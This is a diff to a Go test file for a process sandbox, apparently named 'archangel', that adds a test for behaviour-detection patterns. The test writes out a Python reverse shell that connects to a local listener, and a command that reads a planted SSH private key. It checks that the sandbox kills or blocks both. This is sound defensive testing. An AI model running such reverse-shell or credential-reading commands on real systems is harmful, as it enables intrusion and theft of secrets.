@@ -4,6 +4,7 @@ import (
 	"bufio"
 	"encoding/json"
 	"fmt"
+	"io"
 	"net"
 	"os"
 	"os/exec"
@@ -261,6 +262,60 @@ func TestExecAllowListByLandlock(t *testing.T) {
 	r = archangel(t, nil, "run", "--no-summary", "--mode", "audit", "-p", testdata("exec.toml"), "--", "/bin/sh", "-c", script)
 	wantCode(t, r, 0)
 	wantContains(t, "stdout", r.stdout, "rc=0")
+}
+
+func TestBehaviourPatterns(t *testing.T) {
+	requireNotify(t)
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	got := make(chan string, 4)
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			b, _ := io.ReadAll(c)
+			got <- string(b)
+			c.Close()
+		}
+	}()
+	port := ln.Addr().(*net.TCPAddr).Port
+	ev := filepath.Join(t.TempDir(), "ev.jsonl")
+	shell := fmt.Sprintf(`import os, socket
+s = socket.create_connection(("127.0.0.1", %d))
+os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
+os.execv("/bin/sh", ["sh", "-c", "echo pwned"])`, port)
+	r := archangel(t, nil, "run", "--no-summary", "--events", ev, "-p", testdata("patterns.toml"), "--", "/usr/bin/python3", "-c", shell)
+	wantCode(t, r, 128+int(unix.SIGKILL))
+	select {
+	case b := <-got:
+		if strings.Contains(b, "pwned") {
+			t.Fatalf("the reverse shell ran: the listener got %q", b)
+		}
+	case <-time.After(5 * time.Second):
+	}
+	found := false
+	for _, e := range readEvents(t, ev) {
+		if e["source"] == "pattern" && strings.Contains(fmt.Sprint(e["rule"]), "reverse-shell") {
+			found = true
+		}
+	}
+	if !found {
+		t.Fatal("no event names the reverse-shell pattern")
+	}
+
+	home := t.TempDir()
+	os.MkdirAll(filepath.Join(home, ".ssh"), 0o700)
+	os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte("PRIVATE"), 0o600)
+	r = archangel(t, []string{"HOME=" + home}, "run", "--no-summary", "-p", testdata("patterns.toml"), "--", "sh", "-c", "cat $HOME/.ssh/id_ed25519; echo rc=$?; cat /etc/hostname >/dev/null && echo other-ok")
+	wantCode(t, r, 0)
+	if strings.Contains(r.stdout, "PRIVATE") || !strings.Contains(r.stdout, "other-ok") {
+		t.Fatalf("credential-access pattern: stdout %q", r.stdout)
+	}
 }
 
 func TestNetworkRules(t *testing.T) {
